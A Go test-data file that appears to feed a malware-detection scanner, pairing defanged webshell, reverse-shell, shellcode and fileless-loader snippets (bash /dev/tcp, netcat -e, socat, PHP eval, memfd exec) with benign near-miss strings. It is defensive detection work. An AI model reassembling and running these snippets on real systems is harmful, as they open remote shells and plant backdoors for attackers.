package samples

func webshells() []entry {
	const www = "var/www/html/"
	return []entry{{
		rule: "Webshell_PHP_Eval_Request", path: www + "upload.php",
		hit:  `<?p~hp @ev~al($_PO~ST['c']); ?>`,
		near: `<?php echo evaluate($_POST['c']); ?>`,
	}, {
		rule: "Webshell_PHP_Decode_Chain", path: www + "footer.php",
		hit:  `<?p~hp ev~al(gzin~flate(base~64_decode("AAAA")));`,
		near: `<?php $config = gzinflate(base64_decode("AAAA"));`,
	}, {
		rule: "Webshell_PHP_Request_As_Function", path: www + "a.php",
		hit:  `<?p~hp $_G~ET['f']($_PO~ST['x']);`,
		near: `<?php f($_GET['f'], $_POST['x']);`,
	}, {
		rule: "Webshell_PHP_File_Manager", path: www + "fm.php",
		hit: `<?p~hp move_upl~oaded_file($a,$b); posix_getpw~uid(0); filep~erms($f); php_un~ame();
ini_get("disable_func~tions"); shell_~exec($c);`,
		near: `<?php move_uploaded_file($a,$b); posix_getpwuid(0); fileperms($f); php_uname();
ini_get("disable_functions");`,
	}, {
		rule: "Webshell_PHP_In_Image", path: www + "avatar.gif",
		hit:  "GIF89a\x01\x00<?p~hp sys~tem($_c);",
		near: "GIF89a\x01\x00<?php echo 1;",
	}, {
		rule: "Webshell_JSP_Runtime_Exec", path: "opt/tomcat/webapps/ROOT/x.jsp",
		hit:  `<~% Runtime.getRun~time().ex~ec(request.getPara~meter("c")); %>`,
		near: `<% out.print(request.getParameter("c")); %>`,
	}, {
		rule: "Webshell_JSP_Class_Loader", path: "opt/tomcat/webapps/ROOT/y.jsp",
		hit: `<~%! class U exte~nds Class~Loader { Class g(byte[] b) { return super.define~Class(b,0,b.length); } }
%><~% Cipher.getIns~tance("AES"); request.getRea~der().readLine(); %>`,
		near: `<% Cipher.getInstance("AES"); request.getReader().readLine(); %>`,
	}, {
		rule: "Webshell_Python_Web_Exec", path: www + "app.py",
		hit:  `return os.po~pen(req~uest.args.get("c")).read()`,
		near: `return os.path.join(request.args.get("c"))`,
	}, {
		rule: "Webshell_Perl_CGI_Exec", path: "usr/lib/cgi-bin/x.cgi",
		hit:  "#!/usr/bin/perl\nuse C~GI;\nsys~tem($q->par~am('c'));\n",
		near: "#!/usr/bin/perl\nuse CGI;\nprint $q->param('c');\n",
	}, {
		rule: "Webshell_Node_Exec_Request", path: "srv/app/index.js",
		hit:  `require('child_pro~cess').ex~ec(req.qu~ery.c, cb)`,
		near: `require('child_process').exec('uptime', () => req.query.c)`,
	}}
}

func reverseShells() []entry {
	return []entry{{
		rule: "ReverseShell_Bash_Dev_TCP", path: "tmp/r.sh",
		hit:  "ba~sh -i >& /dev/t~cp/192.0.2.1/4444 0>&1\n",
		near: "echo > /dev/tcp/192.0.2.1/4444 && echo open\n",
	}, {
		rule: "ReverseShell_Bash_Descriptor", path: "tmp/d.sh",
		hit:  "ex~ec 5<>/dev/t~cp/192.0.2.1/4444\ncat <&5 | while re~ad l; do $l 2>&5 >~&5; done\n",
		near: "exec 5<>/dev/tcp/192.0.2.1/80\necho GET / >&5\ncat <&5\n",
	}, {
		rule: "ReverseShell_Python_Dup", path: "tmp/r.py",
		hit:  "s.conn~ect((h,p))\nos.du~p2(s.file~no(),0)\nimport pty; pty.sp~awn(\"/bin/sh\")\n",
		near: "s.connect((h,p))\nos.dup2(log.fileno(),1)\nsubprocess.run([\"uptime\"])\n",
	}, {
		rule: "ReverseShell_Perl_Socket", path: "tmp/r.pl",
		hit:  "use Soc~ket;\nop~en(STD~IN,\">&S\");\nex~ec(\"/bin/sh -i\");\n",
		near: "use Socket;\nopen(STDIN,\"<\",\"/dev/null\");\nexec(\"/bin/date\");\n",
	}, {
		rule: "ReverseShell_Netcat_Exec", path: "tmp/n.sh",
		hit:  "n~c 192.0.2.1 4444 -~e /bin/sh\n",
		near: "nc 192.0.2.1 4444 -w 5 < /bin/sh\n",
	}, {
		rule: "ReverseShell_Mkfifo_Netcat", path: "tmp/m.sh",
		hit:  "mkf~ifo /tmp/f; cat /tmp/f | /bin/s~h -i 2>&1 | n~c 192.0.2.1 4444 > /tmp/f\n",
		near: "mkfifo /tmp/f; cat /tmp/f | gzip | nc 192.0.2.1 4444\n",
	}, {
		rule: "ReverseShell_Socat_Exec", path: "tmp/s.sh",
		hit:  "so~cat exec:'ba~sh -li',pty,stderr,setsid tc~p:192.0.2.1:4444\n",
		near: "socat tcp-listen:8080,fork tcp:192.0.2.1:80\n",
	}, {
		rule: "ReverseShell_PHP_Socket", path: "var/www/html/r.php",
		hit:  `<?p~hp $s=fsock~open($ip,$port); $d=array(0=>arr~ay("pi~pe","r")); proc_o~pen("/bin/s~h -i",$d,$p);`,
		near: `<?php $s=fsockopen($ip,$port); $d=array(0=>array("pipe","r")); proc_open("/usr/bin/gpg",$d,$p);`,
	}, {
		rule: "ReverseShell_Awk_Inet", path: "tmp/a.awk",
		hit:  `BEGIN{s="/in~et/tcp/0/192.0.2.1/4444";while(1){s |& get~line c;while((c |& get~line)>0)print $0 |& s;}}`,
		near: `BEGIN{s="/inet/tcp/0/192.0.2.1/13";s |& getline t; print t}`,
	}, {
		rule: "ReverseShell_Shellcode_X64", path: "tmp/p",
		hit:  elf(2, "\x6a\x29\x58\x99~\x6a\x02\x5f\x6a~\x01\x5e\x0f\x05"),
		near: elf(2, "\x6a\x29\x58\x99\x6a\x02\x5f\x6a\x01\x5e\x90\x05"),
	}, {
		rule: "Execution_Base64_Into_Shell", path: "tmp/b.sh",
		hit:  "ec~ho AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA== | base~64 -d | ba~sh\n",
		near: "echo AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA== | base64 -d > key.bin\n",
	}, {
		rule: "Execution_Memfd_Loader_Script", path: "tmp/l.py",
		hit:  "d=url~open(u).read()\nf=os.memfd_cr~eate('')\nos.ex~ecv('/proc/se~lf/fd/%d' % f, ['x'])\n",
		near: "d=urlopen(u).read()\nf=os.memfd_create('')\nos.write(f, d)\n",
	}}
}
